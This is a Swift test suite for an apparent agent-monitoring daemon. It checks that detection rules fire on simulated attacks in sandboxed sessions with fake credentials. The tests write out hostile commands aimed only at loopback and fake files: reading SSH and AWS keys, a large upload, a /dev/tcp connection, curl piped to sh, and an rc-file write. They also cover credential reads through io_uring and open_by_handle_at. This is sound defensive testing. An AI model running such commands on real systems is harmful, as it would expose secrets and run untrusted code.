@testable import AgentDaemon
@testable import AgentDetector
@testable import AgentRecords
@testable import AgentSessions
import Foundation
import Glibc
import Testing

extension KernelSuite {
    /// The default rule pack against real commands in real sessions: each attack raises its
    /// alert once, an ordinary build raises none, and nothing outside a session raises anything.
    @Suite("detection")
    struct DetectionTests {
        /// A fake home seeded with fake credentials, as the session's home.
        final class FakeHome {
            let path: String
            init() throws {
                path = "/tmp/aw-home-\(getpid())-\(UInt32.random(in: 0...UInt32.max))"
                let fm = FileManager.default
                for dir in [".ssh", ".aws"] {
                    try fm.createDirectory(atPath: path + "/" + dir, withIntermediateDirectories: true)
                }
                try Data("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n".utf8).write(to: URL(fileURLWithPath: path + "/.ssh/id_ed25519"))
                try Data("[default]\naws_access_key_id = AKIAFAKE\n".utf8).write(to: URL(fileURLWithPath: path + "/.aws/credentials"))
                try Data("# rc\n".utf8).write(to: URL(fileURLWithPath: path + "/.bashrc"))
            }
            deinit { try? FileManager.default.removeItem(atPath: path) }
        }

        /// A loopback HTTP server (python, outside any session) that serves x.sh and swallows uploads.
        final class LoopbackServer {
            let pid: pid_t
            let port: Int
            let dir: String
            init() throws {
                dir = "/tmp/aw-srv-\(getpid())-\(UInt32.random(in: 0...UInt32.max))"
                try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
                try Data("echo hello from x.sh\n".utf8).write(to: URL(fileURLWithPath: dir + "/x.sh"))
                let script = """
                    import http.server, socketserver, sys
                    class H(http.server.SimpleHTTPRequestHandler):
                        def log_message(self, *a): pass
                        def do_PUT(self):
                            n = int(self.headers.get('Content-Length', 0))
                            while n > 0:
                                b = self.rfile.read(min(n, 1 << 16))
                                if not b: break
                                n -= len(b)
                            self.send_response(201); self.end_headers()
                        do_POST = do_PUT
                    s = socketserver.TCPServer(('127.0.0.1', 0), lambda *a: H(*a, directory='\(dir)'))
                    open('\(dir)/port', 'w').write(str(s.server_address[1]))
                    s.serve_forever()
                    """
                pid = spawn(["/usr/bin/env", "python3", "-c", script])
                let portFile = dir + "/port"
                _ = waitUntil(timeout: 10) { FileManager.default.fileExists(atPath: portFile) }
                usleep(50_000)
                port = Int((try? String(contentsOfFile: portFile, encoding: .utf8)) ?? "") ?? 0
            }
            deinit {
                kill(pid, SIGKILL)
                var st: Int32 = 0
                waitpid(pid, &st, 0)
                try? FileManager.default.removeItem(atPath: dir)
            }
        }

        /// Runs `script` with bash in a fresh session whose home is `home`, and returns the
        /// session's alerts once its shell has exited and everything is written.
        func alerts(_ d: TestDaemon, session: String, home: String, _ script: String, outside: Bool = false) -> (alerts: [[String: Any]], status: Int32) {
            let cg = d.sessionPath(session)
            mkdir(cg, 0o755)
            CgroupFS.setxattr(cg, SessionMetadata.xattr, SessionMetadata(uid: 0, labels: [], home: home).encoded())
            #expect(SessionLauncher.waitUntilWatched(path: cg, timeoutMs: 30_000))
            let r = runIn(outside ? nil : cg, ["/usr/bin/env", "HOME=\(home)", "/bin/bash", "-c", script])
            // The session ends (its cgroup goes) so that rules owing alerts settle, then its end record.
            removeCgroupTree(cg)
            let records = d.waitForRecords { $0.contains { $0.string("type") == "session.end" && $0.string("session.id") == session } }
            return (records.filter { $0.string("type") == "alert" && $0.string("session.id") == session }, r.status)
        }

        func ids(_ alerts: [[String: Any]]) -> [String] { alerts.compactMap { $0.string("rule.id") }.sorted() }

        @Test("credential reads, a large upload, a reverse shell, curl | sh and an rc-file write each raise the right alert once")
        func attacksRaiseTheirAlert() throws {
            let home = try FakeHome()
            let server = try LoopbackServer()
            try #require(server.port > 0, "loopback server did not start")
            let d = try TestDaemon { $0.rules = [KernelEnv.packageRoot + "/rules"] }
            d.start()
            defer { d.stop() }
            let h = home.path
            let upload = "import socket; s = socket.create_connection(('127.0.0.1', \(server.port))); s.sendall(b'PUT /u HTTP/1.0\\r\\nContent-Length: 20971520\\r\\n\\r\\n' + b'z' * 20971520); s.recv(100); s.close()"
            let cases: [(session: String, script: String, rule: String)] = [
                ("ssh", "cat ~/.ssh/id_ed25519 >/dev/null", "cred-ssh-private-key"),
                ("aws", "cd ~/.aws && cat credentials >/dev/null", "cred-cloud-credentials"),
                ("link", "ln -sf \(h)/.ssh/id_ed25519 /tmp/aw-link-\(getpid()) && cat /tmp/aw-link-\(getpid()) >/dev/null; rm -f /tmp/aw-link-\(getpid())", "cred-ssh-private-key"),
                ("upload", "python3 -c \"\(upload)\"", "net-large-upload"),
                ("devtcp", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/\(server.port)'", "shell-inet-connect"),
                ("pipe", "curl -s http://127.0.0.1:\(server.port)/x.sh | sh", "shell-download-piped-to-shell"),
                ("rc", "echo x >> ~/.bashrc", "persist-shell-rc-write"),
            ]
            for c in cases {
                let (alerts, status) = alerts(d, session: c.session, home: h, c.script)
                #expect(status == 0, "\(c.session): the command failed")
                #expect(ids(alerts) == [c.rule], "\(c.session): \(ids(alerts))")
                // Evidence names records that are in the capture, before the alert.
                if let a = alerts.first, let evidence = a[path: "evidence"] as? [Int], let seq = a.int("seq") {
                    #expect(!evidence.isEmpty && evidence.allSatisfy { $0 < seq })
                }
            }
            // The capture replayed through the same rules raises exactly what was raised live.
            let records = d.records()
            let live = records.filter { $0.string("type") == "alert" }.map { a in
                "\(a.string("rule.id") ?? "") \((a[path: "evidence"] as? [Int] ?? []).map(UInt64.init)) \(a.int("suppressed") ?? 0)"
            }
            let rules = try RuleSet.load(paths: [KernelEnv.packageRoot + "/rules"])
            #expect(replayedAlerts(records, rules: rules) == live)
            #expect(live.count == cases.count)
        }

        /// The ways in of issue 14 reach the same rules as `cat`: a credential read through raw
        /// open(2), through open_by_handle_at (as root: it needs CAP_DAC_READ_SEARCH), and
        /// through io_uring OPENAT and OPENAT2 (no open syscall at all) each raise the
        /// credential alert, once, its evidence the open with the file's path and how it was asked.
        @Test("credential reads through open(2), open_by_handle_at and io_uring raise the credential alerts")
        func otherWaysInRaiseCredentialAlerts() throws {
            let home = try FakeHome()
            let helper = home.path + "/open-family"
            let cc = runIn(nil, ["/usr/bin/cc", "-O1", "-Wall", "-Werror", "-o", helper, KernelEnv.packageRoot + "/Tests/support/open-family.c"])
            try #require(cc.status == 0, "cc Tests/support/open-family.c failed")
            let d = try TestDaemon { $0.rules = [KernelEnv.packageRoot + "/rules"] }
            d.start()
            defer { d.stop() }
            let h = home.path
            let cases: [(session: String, script: String, rule: String, path: String, via: String)] = [
                ("open", "\(helper) open ~/.ssh/id_ed25519", "cred-ssh-private-key", h + "/.ssh/id_ed25519", "open"),
                ("handle", "\(helper) handle ~/.ssh/id_ed25519", "cred-ssh-private-key", h + "/.ssh/id_ed25519", "open_by_handle_at"),
                ("uring", "\(helper) uring ~/.aws/credentials", "cred-cloud-credentials", h + "/.aws/credentials", "io_uring"),
                ("uring2", "\(helper) uring ~/.aws/credentials openat2 async", "cred-cloud-credentials", h + "/.aws/credentials", "io_uring"),
            ]
            for c in cases {
                let (alerts, status) = alerts(d, session: c.session, home: h, c.script)
                #expect(status == 0, "\(c.session): the command failed")
                #expect(ids(alerts) == [c.rule], "\(c.session): \(ids(alerts))")
                let evidence = (alerts.first?[path: "evidence"] as? [Int]) ?? []
                let opens = d.records().filter { r in r.string("type") == "file.open" && evidence.contains(r.int("seq") ?? -1) }
                #expect(opens.contains { $0.string("file.path") == c.path && $0.string("file.via") == c.via },
                        "\(c.session): evidence \(opens.map { "\($0.string("file.via") ?? "?") \($0.string("file.path") ?? "?")" })")
            }
        }

        /// Replays a capture's NDJSON records through a fresh Detector with the same rules, as
        /// `agentwatch replay` will: the alerts must be those raised live (rule, evidence).
        func replayedAlerts(_ records: [[String: Any]], rules: RuleSet) -> [String] {
            let detector = Detector(rules: rules)
            var homes: [String: [String]] = [:]
            var out: [String] = []
            func note(_ a: Alert) { out.append("\(a.rule.id) \(a.evidence) \(a.suppressed)") }
            for r in records {
                guard let type = r.string("type"), let session = r.string("session.id") else { continue }
                if type == "session.start" { homes[session] = r[path: "session.homes"] as? [String] ?? [] }
                if type == "session.end" {
                    detector.endSession(session, timeNs: CapturedRuleInput(r, homes: []).timeNs, emit: note)
                    continue
                }
                if type == "alert" || type.hasPrefix("session.") { continue }
                detector.evaluate(CapturedRuleInput(r, homes: homes[session] ?? []), emit: note)
            }
            return out
        }

        @Test("an ordinary build (git clone of a local repo, make, running tests) raises no alert")
        func ordinaryBuildIsQuiet() throws {
            let home = try FakeHome()
            let work = "/tmp/aw-build-\(getpid())"
            try? FileManager.default.removeItem(atPath: work)
            defer { try? FileManager.default.removeItem(atPath: work) }
            let d = try TestDaemon { $0.rules = [KernelEnv.packageRoot + "/rules"] }
            d.start()
            defer { d.stop() }
            let script = """
                set -e
                mkdir -p \(work)/src && cd \(work)/src
                git init -q . && git config user.email dev@example.com && git config user.name dev
                printf '#include <stdio.h>\\nint main(void){puts("ok");return 0;}\\n' > main.c
                printf 'all: app\\napp: main.c\\n\\tcc -O2 -o app main.c\\ntest: app\\n\\t./app\\n\\tpython3 -m unittest -q test_app\\n' > Makefile
                printf 'import unittest, subprocess\\nclass T(unittest.TestCase):\\n    def test_app(self):\\n        self.assertEqual(subprocess.run(["./app"], capture_output=True).stdout, b"ok\\\\n")\\n' > test_app.py
                git add -A && git commit -qm init
                cd \(work) && git clone -q src clone && cd clone && make -s && make -s test
                """
            let (alerts, status) = alerts(d, session: "build", home: home.path, script)
            #expect(status == 0)
            #expect(alerts.isEmpty, "alerts: \(ids(alerts))")
        }

        @Test("SIGHUP reloads the rules between records: none lost or doubled; invalid rules keep the previous ones")
        func reload() throws {
            let home = try FakeHome()
            let rules = "/tmp/aw-rules-\(getpid())"
            try? FileManager.default.removeItem(atPath: rules)
            try FileManager.default.copyItem(atPath: KernelEnv.packageRoot + "/rules", toPath: rules)
            defer { try? FileManager.default.removeItem(atPath: rules) }
            let d = try TestDaemon { $0.rules = [rules] }
            d.start()
            defer { d.stop() }
            let cg = d.sessionPath("reload")
            mkdir(cg, 0o755)
            CgroupFS.setxattr(cg, SessionMetadata.xattr, SessionMetadata(uid: 0, labels: [], home: home.path).encoded())
            #expect(SessionLauncher.waitUntilWatched(path: cg, timeoutMs: 30_000))
            // 200 numbered execs while the rules are reloaded under them, twice with valid rules
            // and once after a rule file broke.
            let shell = spawn(["/bin/sh", "-c", "echo $$ > '\(cg)/cgroup.procs' && for i in $(seq 1 200); do /bin/echo n$i >/dev/null; done; cat \(home.path)/.ssh/id_ed25519 >/dev/null"])
            // Requests that arrive together are one reload; wait for each one's record.
            func reload(_ n: Int) {
                d.daemon.reload()
                _ = waitUntil(timeout: 20) { d.daemon.counters.recordsByType[Int(RecordType.agentReload.rawValue)] >= UInt64(n) }
            }
            reload(1)
            reload(2)
            try Data("rules:\n  - id: broken\n    condition: file.pth == x\n".utf8).write(to: URL(fileURLWithPath: rules + "/zz-broken.yaml"))
            reload(3)
            var status: Int32 = 0
            waitpid(shell, &status, 0)
            let records = d.waitForRecords { $0.contains { $0.string("type") == "alert" && $0.string("session.id") == "reload" } }
            let seqs = records.compactMap { $0.int("seq") }
            #expect(seqs == Array(1...seqs.count), "seq has a gap or a repeat")
            let echoes = records.filter { $0.string("type") == "process.exec" && $0.string("process.exe") == "/usr/bin/echo" }
                .compactMap { ($0[path: "process.argv"] as? [String])?.last }
            #expect(echoes.count == 200 && Set(echoes).count == 200)
            // The broken file did not replace the running rules: the key read still alerts.
            #expect(records.contains { $0.string("type") == "alert" && $0.string("rule.id") == "cred-ssh-private-key" })
            // Each reload is in the stream: two that took, one that kept the rules and says why.
            let reloads = records.filter { $0.string("type") == "agent.reload" }
            #expect(reloads.count == 3)
            #expect(reloads.filter { ($0[path: "agent.ok"] as? Bool) == true }.count == 2)
            #expect(reloads.last?.string("agent.error")?.contains("zz-broken.yaml:") == true)
            #expect(reloads.last?.string("agent.rules.digest") == reloads.first?.string("agent.rules.digest"))
        }

        @Test("the same attacks outside any session raise nothing")
        func outsideRaisesNothing() throws {
            let home = try FakeHome()
            let d = try TestDaemon { $0.rules = [KernelEnv.packageRoot + "/rules"] }
            d.start()
            defer { d.stop() }
            let (alerts, status) = alerts(d, session: "idle", home: home.path,
                                          "cat ~/.ssh/id_ed25519 >/dev/null; cd ~/.aws && cat credentials >/dev/null; echo x >> ~/.bashrc", outside: true)
            #expect(status == 0)
            #expect(alerts.isEmpty)
            #expect(!d.records().contains { $0.string("type") == "alert" })
        }
    }
}
